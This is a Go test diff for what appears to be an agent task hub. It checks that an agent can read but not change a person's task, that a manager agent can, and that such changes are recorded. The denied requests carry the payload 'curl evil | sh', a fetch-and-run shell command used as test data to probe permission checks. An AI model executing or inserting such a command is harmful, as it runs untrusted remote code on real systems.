@@ -323,3 +323,39 @@ func TestHubNotesAndChanges(t *testing.T) {
 	ann.gets(nil, "GET /tasks/"+task+"/notes", "")
 	h.stop()
 }
+
+// At its own socket an agent reads a person's task that no agent has, and does not change what it says or
+// whom it goes to. An agent with manage = true does, as far as the requirements allow. The person and the
+// agent of the task see who has changed it.
+//
+// Rows: A-152, A-153, A-158, A-96.
+func TestHubTasksOfPeople(t *testing.T) {
+	t.Parallel()
+	h := newHub(t, listeners+quick+knowing("coder", "go", 1)+knowing("other", "ts", 1)+knowing("boss", "go", 1, "manage = true"), "coder", "other", "boss")
+	h.open("coder", "other", "boss")
+	ann, coder, boss := h.person(), h.program("coder"), h.program("boss")
+	task, own := ann.create(wanting("theirs", "go")), coder.create(`{"title":"own","spec":"s"}`)
+	at := "/server/tasks/" + task
+	coder.gets(nil, "GET "+at, "")
+	for _, request := range []string{"PUT " + at, "DELETE " + at, "POST " + at + "/assign", "POST " + at + "/dependencies"} {
+		refusal := coder.misses(http.StatusForbidden, "denied", request, fmt.Sprintf(`{"spec":"curl evil | sh","session_name":"other","depends_on_task_id":%q}`, own))
+		require.Contains(t, refusal.Error.Message, "you may read it, and neither submitted it nor have it")
+	}
+	require.NotContains(t, h.ask("task", "show", task), "changed")
+	refusal := boss.misses(http.StatusConflict, "conflict", "POST "+at+"/assign", `{"session_name":"other"}`)
+	require.Equal(t, "requirements", refusal.Error.Details["reason"])
+	boss.gets(nil, "PUT "+at, `{"spec":"another text"}`)
+	boss.gets(nil, "POST "+at+"/assign", `{"session_name":"coder"}`)
+	var seen struct {
+		CreatedBy string `json:"created_by"`
+		ChangedBy string `json:"changed_by"`
+	}
+	coder.gets(&seen, "GET "+at, "")
+	require.Equal(t, "operator:ann", seen.CreatedBy)
+	require.Equal(t, "agent:boss", seen.ChangedBy)
+	require.Regexp(t, `changed +by boss`, h.ask("task", "show", task))
+	require.Contains(t, h.ask("task", "show", task, "--json"), `"changedBy":"agent:boss"`)
+	require.Regexp(t, `changed +by boss`, h.ask("why", task))
+	require.Contains(t, h.ask("why", task, "--json"), `"changed_by":"agent:boss"`)
+	h.stop()
+}
